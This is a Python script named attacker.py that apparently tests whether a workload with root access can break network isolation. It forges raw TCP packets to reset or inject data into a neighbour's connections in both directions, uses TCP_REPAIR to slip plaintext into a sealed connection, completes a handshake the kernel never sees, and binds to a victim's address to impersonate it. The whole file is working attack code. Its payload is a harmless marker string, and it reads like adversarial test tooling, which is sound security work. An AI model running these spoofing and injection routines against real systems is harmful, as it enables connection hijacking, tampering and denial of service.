# Root inside a workload. attacker.py WHAT ...; addresses are IPv4.
import os, socket, struct, sys, time

EVIL = b'EVIL-PLAINTEXT-OF-THE-ATTACKER'


def checksum(data):
    if len(data) % 2:
        data += b'\0'
    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def segment(source, destination, flags, seq=1, ack=1, payload=b''):
    """An IPv4 packet with a TCP segment; source and destination are (address, port)."""
    (here, sport), (there, dport) = source, destination
    tcp = struct.pack('!HHIIBBHHH', sport, dport, seq & 0xffffffff, ack & 0xffffffff, 5 << 4, flags, 64240, 0, 0)
    pseudo = socket.inet_aton(here) + socket.inet_aton(there) + struct.pack('!BBH', 0, 6, len(tcp) + len(payload))
    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp + payload)) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp) + len(payload), 7, 0, 64, 6, 0,
                     socket.inet_aton(here), socket.inet_aton(there))
    ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
    return ip + tcp + payload


SYN, FIN, RST, PUSH, ACK = 2, 1, 4, 8, 16


def raw():
    """What goes out by the routing table, through the IP layer."""
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    return lambda packet, there: s.sendto(packet, (there, 0))


def frames():
    """What goes out past the IP layer; also what comes in."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    s.bind(('eth0', 0x0800))
    s.settimeout(20)
    gateway = bytes.fromhex(os.popen("ip neigh show 10.1.0.1 dev eth0").read().split('lladdr ')[1].split()[0].replace(':', ''))
    return s, lambda packet, _: s.sendto(packet, ('eth0', 0x0800, 0, 0, gateway))


def spoof(victim, vport, server, port):
    """RST, data and FIN in the name of a neighbour, both ways to send; and the same from the server's side."""
    _, by_frame = frames()
    for send in (raw(), by_frame):
        for source, destination in (((victim, int(vport)), (server, int(port))), ((server, int(port)), (victim, int(vport)))):
            for flags, payload in ((RST, b''), (RST | ACK, b''), (PUSH | ACK, EVIL), (FIN | ACK, b'')):
                send(segment(source, destination, flags, payload=payload), destination[0])


def own(server, port):
    """Plaintext that fits into the stream of its own, sealed connection."""
    s = socket.create_connection((server, int(port)))
    s.settimeout(60)
    s.sendall(b'first')
    s.recv(1)
    s.setsockopt(socket.IPPROTO_TCP, 19, 1)  # TCP_REPAIR
    numbers = []
    for queue in (2, 1):  # TCP_SEND_QUEUE, TCP_RECV_QUEUE
        s.setsockopt(socket.IPPROTO_TCP, 20, queue)
        numbers.append(s.getsockopt(socket.IPPROTO_TCP, 21) & 0xffffffff)
    s.setsockopt(socket.IPPROTO_TCP, 19, -1)
    raw()(segment(s.getsockname(), (server, int(port)), PUSH | ACK, *numbers, EVIL * 40), server)
    try:
        while s.recv(4096):
            pass
        print('end')
    except OSError as error:
        print(error.errno)


def plain(server, port):
    """An ordinary client, after it has opened what it could: its sysctl, its option."""
    s = socket.socket()
    s.settimeout(60)
    s.setsockopt(socket.IPPROTO_TCP, 25, 1 << 20)  # TCP_NOTSENT_LOWAT
    try:
        s.connect((server, int(port)))
        s.setsockopt(socket.IPPROTO_TCP, 25, 1 << 20)
        s.sendall(EVIL)
        print(s.recv(4096))
    except OSError as error:
        print(error.errno)


def handshake(here, server, port):
    """TCP without a socket. The kernel, which knows nothing of it, must not answer: there is no way to the server."""
    s, send = frames()
    port, me = int(port), 40000 + os.getpid() % 1000
    send(segment((here, me), (server, port), SYN, 1000, 0), server)
    while True:
        packet = s.recv(4096)
        tcp = packet[20:]
        if packet[9] == 6 and packet[12:16] == socket.inet_aton(server) and struct.unpack('!H', tcp[2:4])[0] == me:
            seq, = struct.unpack('!I', tcp[4:8])
            if tcp[13] & RST:
                return print('reset')
            if tcp[13] & SYN:
                send(segment((here, me), (server, port), ACK, 1001, seq + 1), server)
                send(segment((here, me), (server, port), PUSH | ACK, 1001, seq + 1, EVIL), server)
            elif len(packet) > 20 + (tcp[12] >> 4) * 4:
                return print('payload')


def impostor(victim, vport, server, port):
    """A connection within this namespace that looks like an end of the neighbour's."""
    listener = socket.create_server((server, int(port)))
    s = socket.socket()
    s.settimeout(60)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((victim, int(vport)))
    try:
        s.connect((server, int(port)))
        s.sendall(EVIL)
        print(listener.accept()[0].recv(100))
    except OSError as error:
        print(error.errno)


globals()[sys.argv[1]](*sys.argv[2:])
